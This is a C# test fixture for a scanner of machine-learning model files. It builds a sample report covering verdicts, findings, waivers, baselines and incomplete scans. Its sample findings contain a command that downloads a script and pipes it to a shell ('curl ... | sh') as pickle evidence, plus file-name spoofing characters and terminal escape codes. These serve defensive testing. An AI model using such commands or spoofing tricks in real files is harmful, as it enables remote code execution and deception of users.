namespace Assay.Scanning.Tests.Reports;

/// <summary>A report that holds every case that a report can hold.</summary>
internal static class SampleReport
{
    public static Rule ObservedRule { get; } = new("TST-001", Severity.High, "A rule that is tried out")
    {
        Meaning = "It means something.",
        HowItWorks = "It works somehow.",
        Advice = "Do something.",
        Stage = RuleStage.Observed,
    };

    public static ScanReport Everything { get; } = Make();

    public static Finding FindingOf(
        Rule rule, string path = "pytorch_model.bin", Severity? severity = null, Confidence confidence = Confidence.High, string message = "Something happens", string? evidence = null) => new()
        {
            Rule = rule,
            Severity = severity ?? rule.Severity,
            Confidence = confidence,
            Message = message,
            Evidence = evidence,
            Location = new Location(path, null, null),
            Advice = rule.Advice,
        };

    private static ScanReport Make()
    {
        var command = FindingOf(
            PickleRules.SystemCommand, confidence: Confidence.Confirmed,
            message: "Loading this file runs: os.system('curl -s http://198.51.100.7/x | sh')",
            evidence: "os.system('curl -s http://198.51.100.7/x | sh')") with
        { Location = new Location("pytorch_model.bin", "archive/data.pkl", 214) };
        var hidden = FindingOf(PickleRules.DangerousImport, message: "The name \u202egpj.exe\u202c is imported\e[2J", evidence: "os\0system") with
        { Location = new Location("pytorch_model.bin", "archive/data.pkl", 90) };
        var known = FindingOf(PickleRules.UnknownFunction, "known file.pkl", message: "acme.thing('#1') is called") with { Baselined = true };
        var observed = FindingOf(ObservedRule, "read me.md", message: "This is only watched") with { Location = new Location("read me.md", null, null, 12, 3) };
        var waived = FindingOf(PickleRules.UnknownFunction, "waived.pkl", message: "acme.other() is called");
        return new ScanReport
        {
            Targets =
            [
                new TargetReport
                {
                    Target = "models/acme",
                    Kind = TargetKind.Folder,
                    Verdict = Verdict.Malicious,
                    Findings = [FindingOf(ScanRules.NameMismatch, "read me.md", message: "The folder as a whole is odd")],
                    Stories = [new Story("The README leads to a program that runs a command", Verdict.Malicious, [new StoryStep("read me.md", 12, "asks the reader to load pytorch_model.bin", command.Fingerprint), new StoryStep("pytorch_model.bin", null, "runs a command", command.Fingerprint)])],
                },
                new TargetReport { Target = "-", Kind = TargetKind.Stdin, Verdict = Verdict.Incomplete },
                new TargetReport { Target = "/data/gone.pt", Kind = TargetKind.File, Verdict = Verdict.Incomplete },
            ],
            Artifacts =
            [
                new ArtifactReport { Target = "models/acme", Path = "known file.pkl", Format = "pickle", Size = 77, BytesRead = 77, Sha256 = new string('a', 64), Verdict = Verdict.Clean, Findings = [known] },
                new ArtifactReport { Target = "models/acme", Path = "pytorch_model.bin", Format = "pytorch-zip+pickle", Size = 104_857_600, BytesRead = 20_480, Verdict = Verdict.Malicious, Findings = [command, hidden] },
                new ArtifactReport { Target = "models/acme", Path = "read me.md", Format = "text", Size = 1200, BytesRead = 1200, Sha256 = new string('b', 64), Verdict = Verdict.Clean, Findings = [observed] },
                new ArtifactReport { Target = "models/acme", Path = "waived.pkl", Format = "pickle", Size = 12, BytesRead = 12, Sha256 = new string('c', 64), Verdict = Verdict.Clean },
                new ArtifactReport
                {
                    Target = "-",
                    Path = "-",
                    Format = "zip",
                    Size = 500,
                    BytesRead = 500,
                    Sha256 = new string('d', 64),
                    Verdict = Verdict.Incomplete,
                    Incomplete = [new Incompleteness(IncompleteReason.Limit, "members", "a.zip!b.zip", 17, "the limit members=200000 was reached"), new Incompleteness(IncompleteReason.Encrypted, null, "secret", null, "the member is encrypted")],
                },
            ],
            Waived = [new WaivedFinding("models/acme", waived, new Waiver("PKL-031", "waived.pkl", null, "jane@example.org", "reviewed in TICKET-7", new DateOnly(2027, 3, 31)))],
            Baselined = 1,
            Errors = [new ScanError("/data/gone.pt", "There is no such file or folder. Check the path.")],
            Notes = [new ScanNote("old.pkl", "The waiver of PKL-031 by jim expired on 2026-01-01 and was not applied. Renew it or remove it.")],
            Duration = TimeSpan.FromMilliseconds(12),
        };
    }
}
